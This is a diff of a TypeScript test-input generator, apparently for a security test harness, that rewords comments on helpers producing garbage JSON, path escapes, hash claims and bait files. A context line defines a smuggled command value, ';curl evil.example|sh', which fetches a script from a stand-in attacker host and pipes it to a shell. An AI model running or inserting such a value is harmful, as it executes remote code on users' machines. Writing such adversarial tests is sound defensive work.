@@ -4,7 +4,7 @@ import type { Random } from "./random.ts";
 import type { Entry } from "./room.ts";
 import { up, type World } from "./world.ts";
 
-/** What runs when somebody pastes a suggested command that holds it. */
+/** What runs when a user pastes a suggested command that holds it. */
 export const PASTED = ";curl evil.example|sh";
 
 const ESCAPES = [
@@ -79,7 +79,7 @@ export function pathOutside(world: World): string {
   ]);
 }
 
-/** JSON of another shape than anybody expects. */
+/** JSON of another shape than anyone expects. */
 export function garbage(random: Random): string | Uint8Array {
   return random.pick<() => string | Uint8Array>([
     () => "",
@@ -125,7 +125,7 @@ export function anything(random: Random): unknown {
   ]);
 }
 
-/** A hash that a record may claim: of what stands there, of what is empty, or no hash. */
+/** A hash that a record may claim: of what is there, of what is empty, or no hash. */
 export function someHash(random: Random, content: string): string | null {
   return random.pick<string | null>([
     null,
@@ -141,7 +141,7 @@ export function someHash(random: Random, content: string): string | null {
 
 export const hash = (content: string): string => createHash("sha256").update(content).digest("hex");
 
-/** What stands at a path, where it is a bait or a file of the room. */
+/** The entry at a path, where it is a bait or a file of the room. */
 export function entry({ room, root }: World, path: string): string {
   const bait = BAIT_FILES.find((name) => path.endsWith(`/${name}`));
   return bait === undefined ? (room.text(`${root}/${path}`) ?? "") : contentOf(bait);
